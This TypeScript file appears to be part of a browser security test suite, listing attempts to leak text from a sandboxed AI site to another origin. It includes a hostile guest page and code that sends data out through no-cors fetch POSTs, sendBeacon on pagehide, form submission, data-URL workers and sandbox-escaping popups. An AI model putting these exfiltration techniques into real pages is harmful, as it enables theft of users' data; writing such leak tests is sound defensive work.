/** Windows and frames that don't say whose they are: the text goes to another site, from where no script of ours is. */
// A hostile page does what the linter forbids.
// oxlint-disable no-useless-escape, react/iframe-missing-sandbox
import { type Attempt, type Task, variants } from './attempt.ts';

/** A page of another site, or of the AI site in somebody else's page, that does what it is told with a text. */
export const hostileGuest = `<!doctype html><body><script>
onmessage = ({ data: { text, to, how, frame } }) => {
  const work = 'onmessage = ({ data: { text, to } }) => fetch(to, { method: "POST", mode: "no-cors", body: text })';
  if (how === 'embed') document.body.appendChild(document.createElement('iframe')).src = frame;
  if (how === 'late') addEventListener('pagehide', () => navigator.sendBeacon(to, text));
  if (how === 'worker') new Worker('data:text/javascript,' + encodeURIComponent(work)).postMessage({ text, to });
  if (how !== 'form') return;
  document.body.innerHTML = '<form method="post" target="_blank"><textarea name="a"></textarea></form>';
  const form = document.forms[0];
  form.action = to;
  form.firstChild.value = text;
  form.submit();
};
</script>`;

export const windows: readonly Attempt[] = [
  ...variants(['location', 'link'], (kind) => ({
    name: `window: a sandboxed frame’s own window goes to another site by ${kind}`,
    reads: 'network' as const,
    run: async ({ text, elsewhere, variant }: Task) => {
      const address = `${elsewhere}?q=${encodeURIComponent(text).replaceAll("'", '%27')}`;
      const go =
        variant === 'location'
          ? `view.location = address`
          : `const link = view.document.createElement('a'); link.href = address; view.document.body.append(link); link.click()`;
      const script = `const address = ${JSON.stringify(address)}, view = open(); setTimeout(() => { ${go} }, 300)`;
      await tools.frame('', (frame) => {
        frame.setAttribute('sandbox', 'allow-scripts allow-popups allow-popups-to-escape-sandbox');
        frame.srcdoc = `<script>${script}<\/script>`;
      });
      await tools.pause(1000);
    },
  })),
  {
    name: 'window: a form of another site’s frame, into a new one',
    reads: 'network',
    run: async ({ text, elsewhere }) => {
      const frame = await tools.frame(new URL('/hostile-guest.html', elsewhere).href);
      frame.postMessage({ text, to: elsewhere, how: 'form' }, '*');
      await tools.pause(1000);
    },
  },
  {
    name: 'window: was at another site, and is empty again: its worker',
    reads: 'network',
    run: async ({ text, elsewhere }) => {
      const work = `onmessage = ({ data: { text, to } }) => fetch(to, { method: 'POST', mode: 'no-cors', body: text })`;
      const view = window.open(new URL('/empty.html', elsewhere).href) as Window & typeof globalThis;
      // Until it is another site's, and until it is this one's again.
      const isOurs = (): boolean => {
        try {
          return view.document.URL === 'about:blank';
        } catch {
          return false;
        }
      };
      while (isOurs()) await tools.pause(50);
      await tools.pause(300);
      view.location.href = 'about:blank';
      while (!isOurs()) await tools.pause(50);
      await tools.pause(300);
      const worker = new view.Worker(`data:text/javascript,${encodeURIComponent(work)}`);
      worker.postMessage({ text, to: elsewhere });
      await tools.pause(700);
    },
  },
  {
    name: 'frame: another site’s, with a beacon when the tab goes on',
    reads: 'network',
    run: async ({ text, elsewhere }) => {
      const frame = await tools.frame(new URL('/hostile-guest.html', elsewhere).href);
      frame.postMessage({ text, to: elsewhere, how: 'late' }, '*');
      await tools.pause(300);
      setTimeout(() => {
        location.href = new URL('/empty.html', elsewhere).href;
      }, 50);
    },
  },
  {
    name: 'frame: another site’s, with a beacon when its window is closed',
    reads: 'network',
    // A tab that shows the other site would count for its frame too.
    isAlone: true,
    run: async ({ text, elsewhere }) => {
      const view = window.open('about:blank') as Window & typeof globalThis;
      const frame = view.document.createElement('iframe');
      const loaded = new Promise((resolve) => {
        frame.addEventListener('load', resolve);
      });
      frame.src = new URL('/hostile-guest.html', elsewhere).href;
      view.document.body.append(frame);
      await loaded;
      (frame.contentWindow as Window).postMessage({ text, to: elsewhere, how: 'late' }, '*');
      await tools.pause(300);
      view.close();
      await tools.pause(700);
    },
  },
  {
    name: 'frame: this site’s in another one’s page: its worker',
    reads: 'network',
    run: async ({ text, elsewhere }) => {
      const view = window.open(new URL('/hostile-guest.html', elsewhere).href) as Window;
      await tools.pause(1000);
      view.postMessage({ how: 'embed', frame: `${location.origin}/hostile-guest.html` }, '*');
      await tools.pause(1000);
      (view.frames[0] as Window).postMessage({ text, to: elsewhere, how: 'worker' }, '*');
      await tools.pause(700);
    },
  },
];
